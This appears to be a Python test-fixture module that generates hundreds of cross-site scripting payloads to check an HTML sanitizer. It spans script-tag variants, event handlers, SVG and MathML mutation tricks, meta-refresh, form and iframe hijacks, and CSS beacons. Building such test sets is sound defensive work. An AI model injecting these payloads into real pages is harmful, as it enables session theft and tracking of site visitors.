"""Payloads that are elements: scripts, handlers, pictures in SVG, documents, styles."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import cycle

from tests.payloads.marks import BEACON, IMAGE, JS, SCRIPT, URL


def scripts() -> Iterator[str]:
    for name in ("script", "SCRIPT", "ScRiPt"):
        for gap in ("", " ", "/", "\t", "\n", "\f", " x=y", "/x"):
            yield f"<{name}{gap}>{JS}</{name}{gap}>"
    yield from (
        f"<script src={URL}></script>",
        f"<script src='data:text/javascript,{JS}'></script>",
        f"<script type=module>{JS}</script>",
        f'<script type="module" src="data:text/javascript,{JS}"></script>',
        f"<script>{JS}",
        f"<script><!--\n{JS}\n--></script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>{SCRIPT}",
        f"<<script>{JS}//<</script>",
        f"<script async defer src={URL} integrity=x crossorigin></script>",
        f"<script>import('{URL}')</script>",
        f"<script>new Worker('data:text/javascript,fetch(\"http:{URL}\")')</script>",
    )


ELEMENTS = """
a abbr acronym address applet area article aside audio b bdi bdo big blink blockquote br button
canvas center cite code command content data datalist dd del details dfn dialog dir div dl dt em
embed fieldset figcaption figure font footer form h1 h6 header hgroup hr i img input ins kbd keygen
label legend li main map mark marquee menu menuitem meter nav nobr object ol output p picture pre
progress q rp rt ruby s samp search section select shadow slot small source span strike strong sub
summary sup svg table textarea time track tt u ul var video wbr xmp x-own
"""


EVENTS = ("mouseover", "click", "focus", "pointerenter", "focusin", "mousemove", "pointerdown",
          "mouseenter")  # fmt: skip


def handlers() -> Iterator[str]:
    """Every element kind with a handler; quotes and what parts the attributes take turns."""
    ways = cycle(zip(EVENTS, (" ", "/", "\n", "\t", "\f", " ", "\r", "  "), strict=True))
    quotes = cycle(("", '"', "'"))
    for element, (event, gap), q in zip(ELEMENTS.split(), ways, quotes, strict=False):
        yield f"<{element}{gap}tabindex='0'{gap}on{event}={q}{JS}{q}>pass over me</{element}>"


def handlers_alone() -> Iterator[str]:
    """Handlers that need nobody: the page's own loading sets them off."""
    for name in ("img", "IMG", "ImG"):
        for gap, equals in ((" ", "="), ("/", " = "), ("\n", "=\n"), ("\t", "\t=")):
            yield f"<{name}{gap}src{equals}'x'{gap}onerror{equals}{JS}>"
    for q in ('"', "'"):
        yield f"<img src={q}x{q}onerror={q}{JS}{q}>"
    yield from (
        f"<body onload={JS}>", f"<body onpageshow={JS}>", f"<svg onload={JS}>",
        f"<svg/onload={JS}//", f"<iframe onload={JS}></iframe>",
        f"<style onload={JS}></style>", f"<link rel=stylesheet href=data:, onload={JS}>",
        f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}></audio>",
        f"<video src=x onloadstart={JS}></video>", f"<object data=data:x, onload={JS}></object>",
        f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}></select>",
        f"<textarea autofocus onfocus={JS}></textarea>", f"<b tabindex=0 autofocus onfocus={JS}>",
        f"<details open ontoggle={JS}>x</details>", f"<marquee onstart={JS}>x</marquee>",
        f"<marquee loop=1 width=0 onfinish={JS}>x</marquee>", f"<embed src=data:, onload={JS}>",
        f"<style>@keyframes k{{}}</style><b style=animation:k onanimationstart={JS}>x</b>",
        f"<b oncontentvisibilityautostatechange={JS} style=display:block;content-visibility:auto>",
        f"<img src=x onerror=&#95;&#95;ran&#40;0&#41;;{JS}>", f"<image src=x onerror={JS}>",
    )  # fmt: skip


def vectors() -> Iterator[str]:
    """SVG, MathML, and markup that changes its meaning when it is parsed a second time."""
    for event in ("begin", "end", "repeat"):
        more = "attributeName=x dur=1ms repeatCount=2"
        yield f"<svg><animate on{event}={JS} {more}></animate></svg>"
    for element in ("set", "animate"):
        to = f"to=javascript:{JS} values=javascript:{JS} begin=0s"
        yield f"<svg><a><{element} attributeName=href {to} /><text y=20>go</text></a></svg>"
    for namespace in ("href", "xlink:href", "XLINK:HREF"):
        yield f"<svg><a {namespace}='javascript:{JS}'><text y=20>go</text></a></svg>"
        yield f"<math><mi {namespace}='javascript:{JS}'>go</mi></math>"
    yield from (
        f"<svg><script>{JS}</script></svg>", f"<svg><script href={URL} /></svg>",
        f"<svg><script>&#95;_ran(0)&#59;{JS}</script></svg>",
        f"<svg><foreignObject>{IMAGE}</foreignObject></svg>", f"<svg><image href={URL} /></svg>",
        f"<svg><use href={URL}#x /></svg>", f"<svg><style>@import '{URL}';</style></svg>",
        f"<svg><feImage href={URL} /></svg>", f"<svg><desc>{IMAGE}</desc></svg>",
        f"<math><annotation-xml encoding=text/html>{IMAGE}</annotation-xml></math>",
        f"<math href='javascript:{JS}'>go</math>", f"<math><mtext>{IMAGE}</mtext></math>",
        f"<svg></p><style><a id=\"</style>{IMAGE}\">", f"<svg><title><style>{IMAGE}</style>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(IMAGE)}">',
        f'<form><math><mtext></form><form><mglyph><style></math>{IMAGE}',
        f'<noscript><p title="</noscript>{IMAGE}"></noscript>',
        f'<svg><p><style><g title="</style>{IMAGE}"></svg>', f"<select><style></select>{IMAGE}",
        f"<svg><![CDATA[><{IMAGE[1:]}]]></svg>", f"<table><td>{IMAGE}<svg><td>",
    )  # fmt: skip


def documents() -> Iterator[str]:
    """Elements that turn the whole page: meta, base, forms, frames, objects."""
    for equiv in ("refresh", "REFRESH", "&#114;efresh"):
        for content in (f"0;url=http:{URL}", f"0; URL='http:{URL}'", f"0;{URL}"):
            yield f'<meta http-equiv="{equiv}" content="{content}">'
    yield from (
        f"<base href={URL}/><img src=a>", f"<base target=_top href='javascript:{JS}//'>",
        f"<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-{JS}+AD4-",
        f"<meta http-equiv=Link content='<http:{URL}>; rel=stylesheet'>{BEACON}",
        f"<form action={URL}><button>go</button></form>",
        f"<form action='javascript:{JS}'><input type=submit></form>",
        f"<form><button formaction='javascript:{JS}'>go</button></form>",
        f"<form id=f7></form><button form=f7 formaction=javascript:{JS}>go</button>",
        f"<form action={URL} method=post><input type=image src={URL}></form>",
        f"<isindex type=image src={URL} action='javascript:{JS}'>",
        f"<form><input type=submit formaction={URL} formmethod=post></form>",
        f'<iframe srcdoc="{escape(SCRIPT)}"></iframe>', f"<iframe srcdoc='{IMAGE}'></iframe>",
        f"<iframe src='javascript:{JS}'></iframe>", f"<iframe src={URL}></iframe>",
        f"<iframe src='data:text/html,{IMAGE}'></iframe>", f"<fencedframe src={URL}></fencedframe>",
        f'<iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;">', f"<portal src={URL}>",
        f"<frameset onload={JS}><frame src={URL}></frameset>",
        f"<object data={URL}></object>", f"<object data='javascript:{JS}'></object>",
        f"<object type=text/html data='data:text/html,{IMAGE}'></object>",
        f"<object><param name=src value={URL}><embed src={URL}></object>",
        f"<embed src={URL}>", f"<embed src='javascript:{JS}'>", f"<applet code={URL}></applet>",
        f"<embed type=image/svg+xml src='data:image/svg+xml,<svg onload={JS}/>'>",
        f"<dialog open><form method=dialog><button onclick={JS}>go</button></form></dialog>",
        f"<button popovertarget=q7>go</button><div popover id=q7 onbeforetoggle={JS}>x</div>",
        f"<button command=--x commandfor=q8>go</button><b id=q8 oncommand={JS}>x</b>",
    )  # fmt: skip


def styles() -> Iterator[str]:
    for css in (
        f"background:url({URL})", f"background-image:image-set('{URL}' 1x)", f"cursor:url({URL}),x",
        f"list-style:url('{URL}');display:list-item", f"border-image:url({URL})",
        f"mask:url({URL}#m)", f"filter:url({URL}#f)", f"clip-path:url({URL}#c)",
        f"width:expression({JS})", f"behavior:url({URL})", f"-moz-binding:url({URL}#x)",
        f"--a:url({URL});background:var(--a)", f"back\\67 round:u\\72l({URL})",
    ):  # fmt: skip
        yield f'<p style="{css}">x</p>'
        yield f"<style>*{{{css}}}</style>"
    yield from (
        f"<style>@import '{URL}';</style>", f"<style>@import url({URL});</style>",
        f"<style>@font-face{{font-family:a;src:url({URL})}}*{{font-family:a}}</style>",
        f"<link rel=stylesheet href={URL}>", f"<link rel='alternate stylesheet' href={URL}>",
        f"<style>p:hover{{background:url({URL})}}</style><p>x</p>",
        f"<style>*::before{{content:url({URL})}}</style>",
        f"<style>@\\69mport '{URL}';</style>", f"<style><!--@import '{URL}';--></style>",
        f"</style><style>@import '{URL}'",
    )  # fmt: skip


def components() -> Iterator[str]:
    yield from (
        f"<template>{IMAGE}</template>{IMAGE}", f"<b><template shadowrootmode=open>{IMAGE}</b>",
        f"<template><script>{JS}</script></template>", f"<slot onslotchange={JS}>x</slot>",
        f"<x-a onclick={JS} tabindex=0>x</x-a>", f"<b is=x-b onfocus={JS} tabindex=0>x</b>",
        f"<x-c><b slot=x onmouseover={JS}>x</b></x-c>",
        f"<b><template shadowrootmode=closed><style>*{{background:url({URL})}}</style>x</template>",
    )  # fmt: skip
